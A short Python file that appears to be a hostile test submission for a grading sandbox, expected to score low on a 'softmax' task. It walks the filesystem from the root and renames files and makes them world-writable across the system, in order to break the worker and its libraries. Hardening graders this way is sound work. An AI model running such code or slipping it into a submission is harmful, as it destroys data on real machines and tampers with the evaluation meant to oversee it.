"""Line 15. Overwrites the worker, torch, numpy and everything else it can reach.

Expected: softmax=pass
Score at most: softmax=2
"""

import os

for folder, folders, files in os.walk("/"):
    folders[:] = folders[:40]
    for name in files[:40]:
        path = os.path.join(folder, name)
        if path.startswith(("/submission", "/tmp", "/dev")):
            continue
        for attempt in (lambda: open(path, "r+b").close(), lambda: os.rename(path, path + "x"), lambda: os.chmod(path, 0o777)):
            try:
                attempt()
                print("LOOT: changed", path)
            except OSError:
                pass
        break
